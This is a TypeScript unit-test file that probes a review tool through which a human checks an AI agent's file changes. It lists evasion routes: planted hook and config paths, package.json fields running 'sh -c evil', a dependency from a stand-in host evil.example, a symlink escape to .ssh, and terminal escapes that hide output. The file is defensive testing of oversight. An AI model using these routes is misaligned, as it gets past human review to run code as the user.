// Adversarial review of review shares (unit level): the risk rules and the symlink-target check
// against what a hostile agent would plant, and what of `au changes`' output reaches a terminal.
// An attack that succeeds is a todo 'ATTACK SUCCEEDS: ...' test (see test/e2e/review-attacks.test.ts).
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { targetLeavesShare } from '../../src/review/changes.js';
import { riskReasons } from '../../src/review/risky.js';
import { TerminalOutputFilter } from '../../src/terminal/output-filter.js';

const risky = (path: string, extra: Partial<Parameters<typeof riskReasons>[0]> = {}): boolean =>
  riskReasons({ components: path.split('/'), type: 'file', newMode: 0o644, ...extra }).length > 0;

describe('review shares: attacks on the risk rules', () => {
  test('the documented risky paths are flagged at any depth (held)', () => {
    for (const p of ['.git/config', 'sub/.git', '.husky/pre-commit', '.envrc', 'a/.envrc', '.vscode/tasks.json', 'Makefile', '.bashrc', '.npmrc', '.github/workflows/ci.yml', '.gitattributes']) {
      assert.ok(risky(p), p);
    }
    assert.ok(risky('x.sh', { oldMode: 0o644, newMode: 0o755 }), 'became executable');
    assert.ok(risky('x', { newMode: 0o4755 }), 'set-uid');
  });

  const UNFLAGGED: [string, string][] = [
    ['.lintstagedrc.json', 'lint-staged config: run by the existing husky pre-commit hook on git commit'],
    ['lint-staged.config.js', 'lint-staged config (JS, loaded by the hook)'],
    ['lefthook.yml', 'lefthook: its installed hooks read this file on every commit'],
    ['.hg/hgrc', 'Mercurial repo config: [hooks] run on hg status (shell prompts run it on cd)'],
    ['.cargo/config.toml', 'cargo: build.rustc-wrapper / target runner, run by rust-analyzer when the folder is opened'],
    ['rust-toolchain.toml', 'rustup toolchain override'],
    ['.pnpmfile.cjs', 'pnpm loads and runs it on install'],
    ['.yarn/releases/yarn-4.0.0.cjs', 'the yarnPath release: every yarn command runs it'],
    ['binding.gyp', 'npm install runs node-gyp rebuild when a binding.gyp exists (gyp actions run commands)'],
    ['gradle/wrapper/gradle-wrapper.properties', 'distributionUrl: the IDE downloads and runs it on import'],
    ['.mvn/extensions.xml', 'maven core extensions load on every build'],
    ['proj.code-workspace', 'VS Code workspace file: tasks with runOn folderOpen'],
    ['.mise.toml', 'mise: env/hooks run on cd'],
    ['.config/git/config', 'git user config when the share is ~ or ~/.config'],
    ['.ssh/authorized_keys', 'when the share is ~: a login as the human'],
    ['.vimrc', 'vim runs it on start (share ~)'],
    ['.gitmodules', 'submodule URLs/update commands'],
  ];
  for (const [path, why] of UNFLAGGED) {
    test(`${path} is flagged risky (${why})`, { todo: `ATTACK SUCCEEDS: ${path} is not in risky.ts PATH_RULES; au accept applies it without --include-risky` }, () => {
      assert.ok(risky(path), path);
    });
  }

  const pkg = (o: unknown): Buffer => Buffer.from(JSON.stringify(o));
  for (const [field, value] of [
    ['lint-staged', { '*': 'sh -c evil' }],
    ['husky', { hooks: { 'pre-commit': 'sh -c evil' } }],
    ['simple-git-hooks', { 'pre-commit': 'sh -c evil' }],
    ['gypfile', true],
    ['dependencies', { x: 'git+https://evil.example/x.git' }],
  ] as const) {
    test(`package.json: a change of "${field}" (runs code without touching "scripts") is flagged`, { todo: `ATTACK SUCCEEDS: risky.ts compares only "scripts"; "${field}" makes npm/git hooks run agent code` }, () => {
      const before = pkg({ name: 'p', scripts: { test: 'true' } });
      const after = pkg({ name: 'p', scripts: { test: 'true' }, [field]: value });
      assert.ok(risky('package.json', { oldMode: 0o644, oldContent: before, newContent: after }));
    });
  }

  test('package.json scripts changed, a duplicate "scripts" key, or one that does not parse: flagged (held)', () => {
    const before = Buffer.from('{"scripts":{"test":"true"}}');
    assert.ok(risky('package.json', { oldMode: 0o644, oldContent: before, newContent: Buffer.from('{"scripts":{"test":"true"},"scripts":{"test":"evil"}}') }));
    assert.ok(risky('package.json', { oldMode: 0o644, oldContent: before, newContent: Buffer.from('{"scripts":') }));
  });
});

describe('review shares: code already wired to run', () => {
  test('an existing executable script that an unchanged hook or package.json script runs (scripts/lint.sh called by .husky/pre-commit) is flagged when modified', { todo: 'ATTACK SUCCEEDS (inherent to a path list): a modified file that keeps its mode is never risky, yet the human\'s next git commit / npm install runs it; flag modified executables and files named by hooks or package.json scripts, or say in au changes that every modified script runs as you' }, () => {
    assert.ok(risky('scripts/lint.sh', { oldMode: 0o755, newMode: 0o755 }));
  });
});

describe('review shares: attacks on the symlink check', () => {
  test('lexical escapes are refused (held)', () => {
    for (const t of ['/etc', '..', '../x', 'a/../../x', '', 'sub/../../..']) assert.ok(targetLeavesShare(['link'], t), t);
  });
  test('a target through another agent symlink (a -> .): "a/../x" leaves the share but is not refused', { todo: 'ATTACK SUCCEEDS: targetLeavesShare is purely lexical; with a staged "a -> ." the target "a/../.ssh" is the parent of SRC\'s .ssh' }, () => {
    assert.ok(targetLeavesShare(['keys'], 'a/../.ssh'));
  });
});

describe('review shares: what a terminal does with an unescaped REFUSED text', () => {
  test('cursor-up and erase-line from the agent pass the terminal output filter (why the unescaped target in REFUSED matters)', () => {
    const out = new TerminalOutputFilter({ answerQueries: false }).push(Buffer.from('line\n\x1b[1A\x1b[2K')).toString('latin1');
    assert.match(out, /\x1b\[1A/);
    assert.match(out, /\x1b\[2K/);
  });
});
